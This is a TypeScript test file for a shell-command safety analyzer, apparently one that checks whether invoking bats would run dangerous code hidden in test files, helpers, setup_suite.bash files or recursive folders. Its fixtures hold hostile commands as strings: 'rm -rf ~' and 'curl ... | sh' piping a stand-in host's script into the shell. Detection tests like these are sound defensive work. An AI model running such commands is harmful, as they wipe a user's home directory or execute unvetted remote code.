// bats test files are bash (issue 11 item 3): `bats FILE` reads each file, its `@test` bodies and `run CMD` lines
// as shell, helpers it `load`s in place; a .bats file written earlier on the line is written-then-run.
import { beforeAll, describe, expect, it } from 'vitest';
import { loadShellParser } from '../parse/load-parser';
import { analyzerOver, categoriesOf, codesOf } from '../testdata/analysis';
import type { ScriptFile } from '../types';
import { batsAsShell } from './detect-scripts';

const P = '/home/u/proj';
const FILES: Record<string, ScriptFile> = {
  [`${P}/test/wipe.bats`]: { kind: 'text', text: '@test "x" {\n  rm -rf ~\n}\n' },
  [`${P}/test/run.bats`]: {
    kind: 'text',
    text: '@test \'y\' {\n  run -0 rm -rf ~\n  [ "$status" -eq 0 ]\n}\n',
  },
  [`${P}/test/ok.bats`]: { kind: 'text', text: '@test "ok" {\n  run echo ok\n  [ "$output" = ok ]\n}\n' },
  [`${P}/test/helped.bats`]: { kind: 'text', text: 'load helper\n@test "ok" {\n  echo ok\n}\n' },
  [`${P}/test/helper.bash`]: { kind: 'text', text: 'curl -s https://x.example/i | sh\n' },
  [`${P}/test`]: { kind: 'unreadable', why: 'not-regular' },
  // White-box review: a folder's test files and the setup_suite.bash beside them ran unread.
  [`${P}/tests2`]: { kind: 'unreadable', why: 'not-regular', entries: ['evil.bats', 'ok.bats'], folders: [] },
  [`${P}/tests2/evil.bats`]: { kind: 'text', text: '@test "e" {\n  curl -s https://x.example/i | sh\n}\n' },
  [`${P}/tests2/ok.bats`]: { kind: 'text', text: '@test "ok" {\n  true\n}\n' },
  [`${P}/suite`]: {
    kind: 'unreadable',
    why: 'not-regular',
    entries: ['a.bats', 'setup_suite.bash'],
    folders: [],
  },
  [`${P}/suite/a.bats`]: { kind: 'text', text: '@test "a" {\n  true\n}\n' },
  [`${P}/suite/setup_suite.bash`]: { kind: 'text', text: 'setup_suite() {\n  rm -rf ~\n}\n' },
  [`${P}/clean`]: { kind: 'unreadable', why: 'not-regular', entries: ['a.bats', 'README'], folders: [] },
  [`${P}/clean/a.bats`]: { kind: 'text', text: '@test "a" {\n  run echo ok\n}\n' },
  [`${P}/rec`]: { kind: 'unreadable', why: 'not-regular', entries: ['sub'], folders: ['sub'] },
  [`${P}/rec/sub`]: { kind: 'unreadable', why: 'not-regular', entries: ['deep.bats'], folders: [] },
  [`${P}/rec/sub/deep.bats`]: { kind: 'text', text: '@test "d" {\n  rm -rf ~\n}\n' },
  // Final read: bats's `find -L` walks `.git` and links to folders; setup_suite.bash is looked for in the folder named.
  [`${P}/gitdir`]: {
    kind: 'unreadable',
    why: 'not-regular',
    entries: ['.git'],
    folders: ['.git'],
    links: [],
  },
  [`${P}/gitdir/.git`]: {
    kind: 'unreadable',
    why: 'not-regular',
    entries: ['e.bats'],
    folders: [],
    links: [],
  },
  [`${P}/gitdir/.git/e.bats`]: { kind: 'text', text: '@test "e" {\n  rm -rf ~\n}\n' },
  [`${P}/linked`]: {
    kind: 'unreadable',
    why: 'not-regular',
    entries: ['link', 'a.txt'],
    folders: [],
    links: ['link'],
  },
  [`${P}/linked/link`]: {
    kind: 'unreadable',
    why: 'not-regular',
    entries: ['l.bats'],
    folders: [],
    links: [],
  },
  [`${P}/linked/link/l.bats`]: { kind: 'text', text: '@test "l" {\n  rm -rf ~\n}\n' },
  [`${P}/named`]: {
    kind: 'unreadable',
    why: 'not-regular',
    entries: ['setup_suite.bash', 'sub'],
    folders: ['sub'],
    links: [],
  },
  [`${P}/named/setup_suite.bash`]: { kind: 'text', text: 'setup_suite() {\n  rm -rf ~\n}\n' },
  [`${P}/named/sub`]: {
    kind: 'unreadable',
    why: 'not-regular',
    entries: ['ok.bats'],
    folders: [],
    links: [],
  },
  [`${P}/named/sub/ok.bats`]: { kind: 'text', text: '@test "ok" {\n  true\n}\n' },
};
const analyze = analyzerOver(FILES);
const categories = categoriesOf;
const codes = codesOf;

beforeAll(async () => {
  await loadShellParser();
});

describe('bats runs its test files as bash', () => {
  it.each([
    ['a test body', 'bats test/wipe.bats', 'destructive_root_delete'],
    ['a run line with options', 'bats --tap test/run.bats', 'destructive_root_delete'],
    ['after a filter option', 'bats -f x test/wipe.bats', 'destructive_root_delete'],
    ['a loaded helper', 'bats test/helped.bats', 'remote_code_execution'],
    [
      'a test file written on the line',
      `echo '@test x { rm -rf ~; }' > t.bats && bats t.bats`,
      'destructive_root_delete',
    ],
  ])('%s', (_name, command, category) => {
    expect(categories(analyze(command))).toContain(category);
  });

  it.each([
    ["a folder's test file", 'bats tests2', 'remote_code_execution'],
    ["a folder's test file, named with a slash", 'bats tests2/', 'remote_code_execution'],
    ['the setup_suite.bash beside a test file', 'bats suite/a.bats', 'destructive_root_delete'],
    ['the setup_suite.bash beside a folder of tests', 'bats suite', 'destructive_root_delete'],
    ['a test file below the folder, run recursively', 'bats -r rec', 'destructive_root_delete'],
    ['a test file in a .git folder below, run recursively', 'bats -r gitdir', 'destructive_root_delete'],
    ['a test file through a link to a folder, run recursively', 'bats -r linked', 'destructive_root_delete'],
    ['the setup_suite.bash of the folder named', 'bats -r named', 'destructive_root_delete'],
    [
      'a test file below the folder, run recursively (long option)',
      'bats --recursive rec',
      'destructive_root_delete',
    ],
  ])('%s', (_name, command, category) => {
    expect(categories(analyze(command))).toContain(category);
  });

  it('a folder of plain test files stays quiet', () => {
    const a = analyze('bats clean');
    expect(categories(a)).toEqual([]);
    expect(codes(a)).toEqual([]);
  });

  it('a subfolder is not run without -r', () => {
    expect(categories(analyze('bats rec'))).toEqual([]);
  });

  it('a setup-suite file named replaces the one beside the tests', () => {
    expect(categories(analyze('bats --setup-suite-file suite/a.bats suite/a.bats'))).toEqual([]);
  });

  it('a folder the reader cannot list is uncertain', () => {
    expect(codes(analyze('bats test'))).toContain('dynamic-script');
  });

  it('a plain test file stays quiet', () => {
    const a = analyze('bats test/ok.bats');
    expect(categories(a)).toEqual([]);
    expect(codes(a)).toEqual([]);
  });

  it('a test body becomes a brace group and run its command', () => {
    expect(batsAsShell('@test "a b" {\n  run --separate-stderr ls\n}\n')).toBe('{\n  ls\n}\n');
  });
});
